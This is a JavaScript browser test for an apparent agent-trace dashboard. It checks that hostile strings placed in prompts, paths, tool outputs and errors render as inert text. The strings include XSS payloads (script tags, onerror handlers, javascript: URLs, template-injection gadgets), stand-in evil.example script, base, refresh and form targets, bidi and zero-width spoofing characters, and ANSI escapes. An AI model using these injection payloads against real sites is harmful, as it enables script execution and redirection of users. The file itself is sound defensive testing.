// Summary: What others wrote does nothing: it is shown, and that is all.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { close, open, settled, text } from './browser.mjs';
import { FIXED, PATTERN } from './stored.mjs';

const MARKUP = [
  '<script>globalThis.hit = 1</script>', '<img src=x onerror="globalThis.hit = 2">', '"><svg onload=globalThis.hit=3>',
  "'><iframe srcdoc='<script>parent.hit=4</script>'>", '</bdi></main><script src="https://evil.example/x.js"></script>',
  '<a href="javascript:globalThis.hit=5">here</a>', 'javascript:globalThis.hit=6', '${globalThis.hit = 7}',
  '{{constructor.constructor("globalThis.hit = 8")()}}', '<style>*{display:none}</style>', '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<form action="https://evil.example/"><button>',
];
const BIDI = 'safe\u202Egpj.exe\u2066 and \u200Bnothing\uFEFF';
const ANSI = '\u001b[31mred\u001b[0m \u001b]8;;javascript:globalThis.hit=9\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[1;1Hgone \u0007bell';
const ALL = [...MARKUP, BIDI, ANSI].join('\n');
// An object that a page might take for a piece of itself.
const PIECE = {
  type: 'script', props: { dangerouslySetInnerHTML: { __html: 'globalThis.hit = 10' } }, key: null, ref: null, __v: 1, constructor: null,
};

/** A trace in which everything that can be said is hostile. */
async function tell(given) {
  const [root, child] = [crypto.randomUUID(), crypto.randomUUID()];
  const [delegation, session] = [crypto.randomUUID(), crypto.randomUUID()];
  const start = Date.now() - 60_000;
  const at = (ms) => new Date(start + ms).toISOString();
  const project = `/home/<img src=x onerror=globalThis.hit=11>/${BIDI}`;
  const call = (id, trace, ms, more) => ({
    event: 'hook', execution_id: id, correlation_id: trace, hook_type: 'ToolUse', tool_name: '<img src=x onerror=globalThis.hit=12>',
    started_at: at(ms), completed_at: at(ms + 900), status: 'success', success: true, ...more,
  });
  const events = [
    {
      event: 'start', correlation_id: root, session_id: session, user_id: MARKUP[1], project, prompt_text: ALL, started_at: at(0),
      context: { git_branch: MARKUP[0] },
    },
    call(crypto.randomUUID(), root, 1_000, {
      context: { tool_input: { command: ALL, description: ALL }, tool_response: { stdout: ALL, stderr: ANSI } },
      quality_gates_validated: ['test:failed'], success: false, status: 'error', error_message: ALL,
    }),
    call(crypto.randomUUID(), root, 2_000, {
      tool_name: 'Edit', modifications_made: [{ file: `${project}/<b>a</b>.ts`, kind: '<b>edit</b>', lines_added: 1, lines_removed: 1 }],
      context: {
        tool_input: { file_path: `${project}/a.ts`, old_string: ALL, new_string: ALL },
        tool_response: { structuredPatch: [{ oldStart: '<b>', newStart: 1, lines: [`+${ALL}`, `-${BIDI}`] }, null] },
      },
    }),
    call(crypto.randomUUID(), root, 3_000, {
      context: { tool_input: PIECE, tool_response: { content: [PIECE, null, 7, { text: ALL }] } }, modifications_made: [PIECE],
    }),
    call(crypto.randomUUID(), root, 4_000, {
      context: { tool_input: { file_path: PIECE, command: [1, 2], pattern: { a: 1 } }, tool_response: PIECE },
    }),
    call(delegation, root, 5_000, { tool_name: 'Task', context: { tool_input: { subagent_type: MARKUP[1], prompt: ALL } } }),
    {
      event: 'start', correlation_id: child, root_id: root, parent_id: root, parent_execution_id: delegation, session_id: session,
      agent: `<b>agent</b>${BIDI}`, prompt_text: ALL, project, started_at: at(5_100),
    },
    {
      event: 'complete', correlation_id: child, completed_at: at(5_700), status: 'error', success: false, error_message: ALL,
      error_type: MARKUP[0],
    },
    {
      event: 'endpoint', correlation_id: root, execution_id: crypto.randomUUID(), service_name: MARKUP[1], http_method: 'GET',
      endpoint_path: 'javascript:globalThis.hit=13', started_at: at(6_000), success: false, error_message: ALL,
    },
    {
      event: 'complete', correlation_id: root, completed_at: at(9_000), status: 'error', success: false, error_message: ALL,
      error_type: ALL.slice(0, 90), context: { last_assistant_message: ALL },
    },
  ];
  const answer = await fetch(`${given.full.url}/api/traces/batch`, {
    method: 'POST', headers: { 'Content-Type': 'application/x-ndjson' }, body: events.map((one) => JSON.stringify(one)).join('\n'),
  });
  assert.equal(answer.status, 202, await answer.text());
  return { root, project };
}

/** Nothing of it became part of the page, ran, or asked anything of anybody. */
async function harmless(page, asked, url) {
  const found = await page.evaluate(() => ({
    ran: globalThis.hit ?? null,
    elements: [...document.querySelectorAll(['script', 'img', 'iframe', 'style', 'base', 'meta', 'b', 'form[action]']
      .map((one) => `#app ${one}`).join())].map((one) => one.outerHTML.slice(0, 80)),
    links: [...document.querySelectorAll('a[href]')].map((one) => one.getAttribute('href')).filter((one) => !/^(#|https?:)/.test(one)),
    base: document.baseURI.startsWith(location.origin),
    // No character that turns or hides others stands in the page's text.
    hidden: /[\u202a-\u202e\u2066-\u2069\u200b\ufeff\u001b\u0007]/.test(document.body.innerText),
  }));
  assert.deepEqual(found, { ran: null, elements: [], links: [], base: true, hidden: false });
  assert.deepEqual(asked.filter((one) => !one.startsWith(url)), []);
}

export function testHostile(given) {
  test('hostile payloads in prompts, names, paths, outputs and errors do nothing on any page', async () => {
    const { root, project } = await tell(given);
    for (const theme of ['light', 'dark']) {
      const asked = [];
      const page = await open(given, '#/', { theme, before: (one) => one.on('request', (request) => asked.push(request.url())) });
      await settled(page);
      await harmless(page, asked, given.full.url);

      for (const place of ['projects', ['projects', project], ['projects', ALL.slice(0, 300)], 'patterns', ['patterns', PATTERN], 'agents',
        ['agents', `<b>agent</b>${BIDI}`], 'errors', ['errors', FIXED], ['errors', MARKUP[0]], 'cost', 'health']) {
        await page.goto(`${given.full.url}/#/${[place].flat().map(encodeURIComponent).join('/')}?period=365d`);
        await page.waitForSelector('h1');
        await settled(page);
        await harmless(page, asked, given.full.url);
      }
      for (const query of [{ period: '24h' }, { period: '24h', project }, { text: MARKUP[0] }, { agent: MARKUP[1], person: ALL }]) {
        await page.goto(`${given.full.url}/#/traces?${new URLSearchParams(query)}`);
        await settled(page);
        await harmless(page, asked, given.full.url);
      }

      await page.goto(`${given.full.url}/#/traces/${root}`);
      await page.waitForSelector('.event-list');
      assert.ok((await text(page, 'h1')).includes('<script>globalThis.hit = 1</script>'));
      assert.ok((await text(page, 'h1')).includes('U+202E'));
      for (const summary of await page.locator('details > summary').all()) await summary.click();
      for (let at = 0; at < await page.locator('.event-head').count(); at++) {
        const head = page.locator('.event-head').nth(at);
        if (await head.getAttribute('aria-expanded') === 'false') await head.click();
        await harmless(page, asked, given.full.url);
      }
      assert.match(await page.locator('.ansi-1').first().innerText(), /red/);
      await page.getByText('Critical path').click();
      await harmless(page, asked, given.full.url);
      await close(page);
    }
  });
}
